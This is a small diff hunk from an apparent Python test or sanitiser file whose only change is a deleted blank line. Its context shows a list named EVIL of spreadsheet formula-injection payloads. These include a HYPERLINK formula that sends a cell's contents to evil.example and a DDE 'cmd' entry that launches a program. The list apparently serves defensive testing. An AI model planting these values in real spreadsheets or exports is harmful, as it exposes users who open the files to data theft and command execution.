@@ -6,7 +6,6 @@ import html
 import re
 import zipfile
 
-
 EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
         "http://evil.example/x"]
 
